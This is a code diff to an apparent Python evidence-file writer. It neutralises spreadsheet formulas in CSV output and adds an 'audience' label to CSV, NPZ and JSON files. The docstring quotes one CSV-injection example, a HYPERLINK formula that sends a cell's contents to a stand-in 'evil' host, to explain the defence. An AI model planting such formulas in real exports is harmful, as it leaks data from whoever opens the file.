@@ -5,19 +5,34 @@ run as a formula by Excel, LibreOffice and Google Sheets (CSV injection: a group
 ``=HYPERLINK("http://evil/?"&A1)`` would send a row away when the export is opened).
 Following the OWASP rule, such a text cell is written with a leading ``'`` so it is shown
 as text. Numbers are written as numbers (``-0.5`` stays a number).
+
+Every evidence file states its audience itself (see :mod:`auditkit.suppression`,
+"Audiences"): a CSV written with ``audience=`` ends with an ``audience`` column holding it
+in every row (so any CSV reader, pandas or a spreadsheet, still reads the file unchanged,
+and a row copied out of it still says who it was written for); an NPZ written by
+:func:`save_npz` holds an ``audience`` entry (a 0-d text array). :func:`file_audience`
+reads it back from a JSON, CSV or NPZ file.
 """
 
 from __future__ import annotations
 
 import csv
+import json
 import os
 from collections.abc import Iterable, Sequence
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import pandas as pd
 
-__all__ = ["FORMULA_PREFIXES", "csv_safe", "csv_safe_frame", "write_csv_rows", "write_frame_csv"]
+from .exceptions import ConfigError, DataError
+
+__all__ = ["AUDIENCE_COLUMN", "FORMULA_PREFIXES", "csv_safe", "csv_safe_frame", "file_audience",
+           "save_npz", "write_csv_rows", "write_frame_csv"]
+
+#: The column (CSV) and entry (NPZ) that state the audience a file was written for.
+AUDIENCE_COLUMN = "audience"
 
 #: Leading characters a spreadsheet treats as the start of a formula (OWASP).
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
@@ -47,23 +62,94 @@ def _atomic(path: Path) -> Path:
     return path.with_name(f".{path.name}.{os.getpid()}.tmp")
 
 
-def write_frame_csv(frame: pd.DataFrame, path: str | os.PathLike[str]) -> Path:
-    """Write ``frame`` (formulas neutralised) to ``path`` atomically."""
+def _checked_audience(audience: str) -> str:
+    from .suppression import check_audience
+
+    check_audience(audience)
+    return audience
+
+
+def write_frame_csv(frame: pd.DataFrame, path: str | os.PathLike[str], *,
+                    audience: str | None = None) -> Path:
+    """Write ``frame`` (formulas neutralised) to ``path`` atomically.
+
+    With ``audience`` (``"in-house"`` or ``"release"``), a last column ``audience`` states
+    it in every row (replacing one the frame already had, e.g. read from an earlier file).
+    """
     path = Path(path)
+    out = csv_safe_frame(frame)
+    if audience is not None:
+        if AUDIENCE_COLUMN in out.columns and not set(out[AUDIENCE_COLUMN].astype(str)) <= {
+                "in-house", "release"}:
+            raise ConfigError(f"the column {AUDIENCE_COLUMN!r} is reserved for the file's "
+                              "audience; found a data column of that name (rename it, e.g. "
+                              "in the dataset's auditkit.toml).")
+        out = out.drop(columns=[AUDIENCE_COLUMN], errors="ignore")
+        out[AUDIENCE_COLUMN] = _checked_audience(audience)
     tmp = _atomic(path)
-    csv_safe_frame(frame).to_csv(tmp, index=False)
+    out.to_csv(tmp, index=False)
     os.replace(tmp, path)
     return path
 
 
 def write_csv_rows(path: str | os.PathLike[str], header: Sequence[str],
-                   rows: Iterable[Sequence[Any]]) -> Path:
-    """Write a header and rows (formulas neutralised) to ``path`` atomically."""
+                   rows: Iterable[Sequence[Any]], *, audience: str | None = None) -> Path:
+    """Write a header and rows (formulas neutralised) to ``path`` atomically.
+
+    With ``audience``, a last column ``audience`` states it in every row.
+    """
     path = Path(path)
+    extra = [] if audience is None else [_checked_audience(audience)]
     tmp = _atomic(path)
     with open(tmp, "w", newline="", encoding="utf-8") as fh:
         writer = csv.writer(fh)
-        writer.writerow([csv_safe(h) for h in header])
-        writer.writerows([csv_safe(v) for v in row] for row in rows)
+        writer.writerow([csv_safe(h) for h in header] + ([AUDIENCE_COLUMN] if extra else []))
+        writer.writerows([csv_safe(v) for v in row] + extra for row in rows)
     os.replace(tmp, path)
     return path
+
+
+def save_npz(path: str | os.PathLike[str], arrays: dict[str, np.ndarray], *,
+             audience: str) -> Path:
+    """Write ``arrays`` and an ``audience`` entry (0-d text array) to ``path`` atomically.
+
+    Compressed NPZ, readable with ``np.load(path, allow_pickle=False)``; readers skip the
+    ``audience`` entry (it is not one of the arrays).
+    """
+    if AUDIENCE_COLUMN in arrays:
+        raise ValueError(f"{AUDIENCE_COLUMN!r} is reserved for the file's audience; got an "
+                         f"array named {AUDIENCE_COLUMN!r} instead.")
+    path = Path(path)
+    tmp = path.with_name(f".{path.stem}.{os.getpid()}.tmp.npz")
+    entries = {**arrays, AUDIENCE_COLUMN: np.asarray(_checked_audience(audience))}
+    np.savez_compressed(tmp, **entries)  # type: ignore[arg-type]  # keys are names
+    os.replace(tmp, path)
+    return path
+
+
+def file_audience(path: str | os.PathLike[str]) -> str | None:
+    """The audience ``path`` states itself, or None when it states none.
+
+    JSON: the top-level ``audience`` key; CSV: the ``audience`` column (every row must
+    agree, else :class:`~auditkit.exceptions.DataError`); NPZ: the ``audience`` entry.
+    Other kinds of file: None.
+    """
+    path = Path(path)
+    suffix = path.suffix.lower()
+    if suffix == ".json":
+        doc = json.loads(path.read_text(encoding="utf-8"))
+        value = doc.get(AUDIENCE_COLUMN) if isinstance(doc, dict) else None
+        return value if isinstance(value, str) else None
+    if suffix == ".csv":
+        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
+        if AUDIENCE_COLUMN not in frame.columns:
+            return None
+        stated = set(frame[AUDIENCE_COLUMN])
+        if len(stated) > 1:
+            raise DataError(f"{path} states more than one audience: {sorted(stated)}; "
+                            "expected one for the whole file.")
+        return stated.pop() if stated else None
+    if suffix == ".npz":
+        with np.load(path, allow_pickle=False) as npz:
+            return str(npz[AUDIENCE_COLUMN]) if AUDIENCE_COLUMN in npz.files else None
+    return None
